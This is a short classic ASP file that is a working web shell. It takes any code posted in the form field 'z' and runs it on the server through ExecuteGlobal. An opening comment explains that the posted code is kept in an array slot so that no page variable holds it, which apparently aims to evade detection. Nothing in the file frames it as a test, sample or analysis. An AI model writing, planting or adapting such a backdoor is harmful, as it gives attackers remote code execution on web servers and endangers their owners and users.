<%
' The posted code parked in an array slot before it runs: no variable of the page holds it.
Dim box(2)
box(1) = Request.Form("z")
If Len(box(1)) > 0 Then ExecuteGlobal box(1)
%>
